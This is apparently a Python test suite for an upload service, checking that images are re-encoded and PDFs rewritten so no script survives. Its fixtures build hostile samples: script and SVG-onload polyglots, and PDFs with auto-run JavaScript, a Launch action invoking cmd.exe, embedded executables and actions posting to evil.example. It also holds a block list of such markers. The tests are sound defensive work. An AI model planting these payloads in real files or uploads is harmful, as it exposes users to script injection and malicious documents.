"""Uploads cannot carry anything else: images are re-encoded by Pillow, PDFs re-written by pypdf,
everything served with its re-encoded type, nosniff, and PDFs as downloads."""

import io
import struct
import zlib

import gridfs
import pytest
from PIL import Image
from pypdf import PdfReader

from tests.conftest import bearer
from tests.trainees.test_attachments_api import pdf_bytes, upload

SCRIPT = b"<html><body><script>alert(document.cookie)</script></body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'


@pytest.fixture
def trainee(login):
    return login("polyglot-uploader")


def _stored(db):
    return [doc for doc in db["attachments.files"].find()]


def _jpeg_with_gps_comment_and_trailer():
    image = Image.new("RGB", (64, 48), (10, 120, 200))
    exif = Image.Exif()
    exif[0x010F] = "SpyCam"  # Make
    exif[0x8825] = {1: "N", 2: (39.0, 54.0, 26.0), 3: "E", 4: (116.0, 23.0, 29.0)}  # GPS position
    out = io.BytesIO()
    image.save(out, "JPEG", exif=exif, comment=b"<script>alert(3)</script>")
    return out.getvalue() + SCRIPT  # bytes after the end-of-image marker


def _png_header_only(width, height):
    def chunk(kind, body):
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", zlib.compress(b"\0" * 64)) + \
        chunk(b"IEND", b"")


def _pdf_with_javascript():
    body = pdf_bytes()
    reader_source = body.decode("latin-1")
    # A catalog that runs JavaScript on opening and a page action, as an attacker writes them.
    reader_source = reader_source.replace("/Type /Catalog", "/Type /Catalog /OpenAction << /S /JavaScript "
                                          "/JS (app.alert\\('x'\\)) >> /Names << /JavaScript << /Names [] >> >>", 1)
    assert "/OpenAction" in reader_source
    return reader_source.encode("latin-1") + SCRIPT


@pytest.mark.parametrize("payload", [b"\xff\xd8\xff\xe0" + SCRIPT, b"\xff\xd8\xff" + SVG, SVG,
                                     b"%PDF-1.7\n" + SCRIPT, b"\x89PNG\r\n\x1a\n" + SCRIPT],
                         ids=["jpeg-signature-html", "jpeg-signature-svg", "svg", "pdf-signature-html",
                              "png-signature-html"])
def test_a_signature_followed_by_markup_is_refused_and_nothing_stored(client, trainee, db, payload):
    response = upload(client, trainee, payload, filename="photo.jpg")
    assert response.status_code == 422, response.json
    assert response.json["code"] == "ATTACHMENT_TYPE_INVALID" and "file" in response.json["errors"]
    assert _stored(db) == []


def test_a_gif_is_refused_although_pillow_reads_it(client, trainee, db):
    out = io.BytesIO()
    Image.new("P", (8, 8)).save(out, "GIF")
    assert upload(client, trainee, out.getvalue()).json["code"] == "ATTACHMENT_TYPE_INVALID"
    assert _stored(db) == []


def test_a_real_photo_is_re_encoded_without_exif_gps_comment_or_trailer(client, trainee):
    created = upload(client, trainee, _jpeg_with_gps_comment_and_trailer(), filename="photo.html")
    assert created.status_code == 201, created.json
    assert created.json["content_type"] == "image/jpeg" and created.json["filename"] == "photo.jpg"
    served = client.get(f"/api/v1/attachments/{created.json['id']}", headers=bearer(trainee))
    assert served.status_code == 200
    assert served.mimetype == "image/jpeg"
    assert served.headers["X-Content-Type-Options"] == "nosniff"
    assert served.headers["Content-Disposition"].startswith("inline")
    assert b"<script" not in served.data and b"<html" not in served.data and b"SpyCam" not in served.data
    image = Image.open(io.BytesIO(served.data))
    assert image.format == "JPEG" and image.size == (64, 48)
    assert dict(image.getexif()) == {} and "comment" not in image.info


@pytest.mark.parametrize("width, height", [(8_000, 6_000), (30_000, 30_000)])  # ours; Pillow's own limit
def test_a_decompression_bomb_is_refused_by_pixel_count(client, trainee, db, width, height):
    response = upload(client, trainee, _png_header_only(width, height))
    assert response.status_code == 422 and response.json["code"] == "ATTACHMENT_TYPE_INVALID"
    assert "像素" in response.json["message"]
    assert _stored(db) == []


def test_a_pdf_with_javascript_is_rewritten_and_served_as_a_download(client, trainee):
    created = upload(client, trainee, _pdf_with_javascript(), kind="business_licence", filename="licence.pdf")
    assert created.status_code == 201, created.json
    served = client.get(f"/api/v1/attachments/{created.json['id']}", headers=bearer(trainee))
    assert served.mimetype == "application/pdf"
    assert served.headers["Content-Disposition"] == 'attachment; filename="business_licence.pdf"'
    assert served.headers["X-Content-Type-Options"] == "nosniff"
    assert b"/JavaScript" not in served.data and b"/OpenAction" not in served.data and b"<script" not in served.data
    assert len(PdfReader(io.BytesIO(served.data)).pages) == 1


def test_a_pdf_no_library_opens_is_refused(client, trainee, db):
    response = upload(client, trainee, b"%PDF-1.4\n1 0 obj << /Type /Catalog >>\n%%EOF", kind="business_licence")
    assert response.status_code == 422 and response.json["code"] == "ATTACHMENT_TYPE_INVALID"
    assert _stored(db) == []


def test_a_file_stored_before_re_encoding_is_served_as_an_opaque_download(client, trainee, db):
    me = client.get("/api/v1/me", headers=bearer(trainee)).json["id"]
    from bson import ObjectId

    legacy_id = gridfs.GridFSBucket(db, bucket_name="attachments").upload_from_stream(
        "photo.jpg", b"\xff\xd8\xff" + SCRIPT,
        metadata={"owner_id": ObjectId(me), "kind": "photo", "content_type": "image/jpeg"})
    served = client.get(f"/api/v1/attachments/{legacy_id}", headers=bearer(trainee))
    assert served.mimetype == "application/octet-stream"
    assert served.headers["Content-Disposition"].startswith("attachment")
    assert served.headers["X-Content-Type-Options"] == "nosniff"


def _pdf(*objects):
    """A PDF with these object bodies (numbered from 1, object 1 the catalog) and a correct xref."""
    out, offsets = bytearray(b"%PDF-1.7\n"), []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


def _stream(data, extra=b""):
    return b"<< /Length %d %s >>\nstream\n" % (len(data), extra) + data + b"\nendstream"


FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"


def _page_associated_file_pdf():
    """The attacker's af.pdf: a page-level /AF with an embedded file, /PieceInfo holding a script."""
    return _pdf(
        b"<< /Type /Catalog /Pages 2 0 R >>", PAGES,
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /AF [5 0 R] "
        b"/PieceInfo << /X << /Private 7 0 R >> >> /Thumb 6 0 R /Resources << /Font << /F1 " + FONT + b" >> >> >>",
        _stream(b"BT /F1 24 Tf 72 700 Td (AF test) Tj ET"),
        b"<< /Type /Filespec /F (payload.exe) /UF (payload.exe) /AFRelationship /Data /EF << /F 6 0 R >> >>",
        _stream(b"AFPAYLOADMARKER", b"/Type /EmbeddedFile"),
        b"<< /Type /Action /S /JavaScript /JS (app.alert\\(7\\);) >>")


def _scripts_in_resources_pdf():
    """The attacker's bomb.pdf: an action under /Resources (/JS) and a font's /AA, a deflated page."""
    content = zlib.compress(b"BT /F1 24 Tf 72 700 Td (Resources test) Tj ET\n" + b" " * 200_000)
    return _pdf(
        b"<< /Type /Catalog /Pages 2 0 R >>", PAGES,
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /JS 5 0 R "
        b"/Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica /AA << /O 5 0 R >> >> >> >> >>",
        _stream(content, b"/Filter /FlateDecode"),
        b"<< /Type /Action /S /JavaScript /JS (app.alert\\(\"FONTJS\"\\);) >>")


def _actions_everywhere_pdf():
    """The attacker's evil.pdf: open action, names tree, form, page /AA with a Launch, link and widget."""
    return _pdf(
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R /AA << /WC 5 0 R >> /Names << /JavaScript << "
        b"/Names [(x) 5 0 R] >> /EmbeddedFiles << /Names [(evil.exe) 7 0 R] >> >> /AcroForm << /Fields [9 0 R] >> >>",
        PAGES,
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 "
        + FONT + b" >> >> /AA << /O 5 0 R /C 6 0 R >> /Annots [10 0 R 9 0 R] >>",
        _stream(b"BT /F1 24 Tf 72 700 Td (Hello EVILPDF) Tj ET"),
        b"<< /Type /Action /S /JavaScript /JS (app.alert\\(\"EVILJS\"\\);) >>",
        b"<< /Type /Action /S /Launch /F (calc.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>",
        b"<< /Type /Filespec /F (evil.exe) /EF << /F 8 0 R >> >>",
        _stream(b"EVILPAYLOAD", b"/Type /EmbeddedFile"),
        b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (f1) /Rect [0 0 100 20] /P 3 0 R /AA << /K 5 0 R >> "
        b"/A << /S /SubmitForm /F << /FS /URL /F (http://evil.example/submit) >> >> >>",
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] /A << /S /URI /URI (http://evil.example/phish) >> >>")


# Nothing of these may survive anywhere in the stored file, referenced or not.
PDF_LEFTOVERS = (b"AFPAYLOADMARKER", b"EVILPAYLOAD", b"EVILJS", b"FONTJS", b"app.alert", b"calc.exe", b"cmd.exe",
                 b"payload.exe", b"evil.exe", b"evil.example", b"/AF", b"/PieceInfo", b"/AA", b"/JS", b"/JavaScript",
                 b"/Launch", b"/URI", b"/SubmitForm", b"/EmbeddedFile", b"/Annots", b"/AcroForm", b"/OpenAction",
                 b"/Thumb", b"/Names", b"/Filespec", b"/Widget", b"/Action")


@pytest.mark.parametrize("source, text", [(_page_associated_file_pdf, "AF test"),
                                          (_scripts_in_resources_pdf, "Resources test"),
                                          (_actions_everywhere_pdf, "Hello EVILPDF")],
                         ids=["page-af-pieceinfo", "resources-js-font-aa", "actions-annotations-orphans"])
def test_only_page_content_survives_in_a_stored_pdf(client, trainee, db, source, text):
    data = source()
    assert len(PdfReader(io.BytesIO(data)).pages) == 1  # the construction itself is a valid PDF
    created = upload(client, trainee, data, kind="business_licence", filename="licence.pdf")
    assert created.status_code == 201, created.json
    stored = gridfs.GridFSBucket(db, bucket_name="attachments").open_download_stream(
        _stored(db)[0]["_id"]).read()
    served = client.get(f"/api/v1/attachments/{created.json['id']}", headers=bearer(trainee)).data
    assert served == stored
    assert [marker for marker in PDF_LEFTOVERS if marker in stored] == []
    page = PdfReader(io.BytesIO(stored)).pages[0]
    assert text in page.extract_text() and "/Font" in page["/Resources"]  # the page still draws
